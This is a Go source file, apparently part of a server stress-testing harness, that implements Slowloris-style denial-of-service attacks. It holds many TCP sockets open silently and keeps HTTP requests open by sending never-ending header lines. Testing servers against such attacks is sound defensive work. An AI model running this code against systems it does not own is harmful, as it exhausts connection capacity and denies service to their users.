package attacker

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"time"
)

// Silent holds n sockets at an address open and sends nothing on them. Each that is closed is
// opened again. Now counts those that are open.
func Silent(address string, n int) Attack { return Sockets(address, "", 0, n) }

// HalfHeaders holds n requests of HTTP open whose headers do not end: a line comes now and then.
func HalfHeaders(address string, n int) Attack {
	return Sockets(address, fmt.Sprintf("GET /v2/ HTTP/1.1\r\nHost: %s\r\n", address), time.Second, n)
}

// Sockets holds n sockets at an address open, on each of which it sends the beginning of
// something, and then, unless every is 0, a little more now and then.
func Sockets(address, begin string, every time.Duration, n int) Attack {
	return func(ctx context.Context, p *Peer, t *Tally) {
		again(ctx, n, t, func(ctx context.Context) error {
			c, err := p.dialer.DialContext(ctx, "tcp", address)
			if err != nil {
				return err
			}
			defer func() { _ = c.Close() }()
			defer context.AfterFunc(ctx, func() { _ = c.Close() })()
			defer t.add()()
			if _, err := io.WriteString(c, begin); err != nil {
				return err
			}
			t.did.Add(1)
			return hold(c, every)
		})
	}
}

// hold returns when the other end closes.
func hold(c net.Conn, every time.Duration) error {
	b := make([]byte, 4<<10)
	for {
		if every > 0 {
			_ = c.SetReadDeadline(time.Now().Add(every))
		}
		_, err := c.Read(b)
		if every > 0 && errors.Is(err, os.ErrDeadlineExceeded) {
			_, err = io.WriteString(c, "X-More: of this\r\n")
		}
		if err != nil {
			return err
		}
	}
}
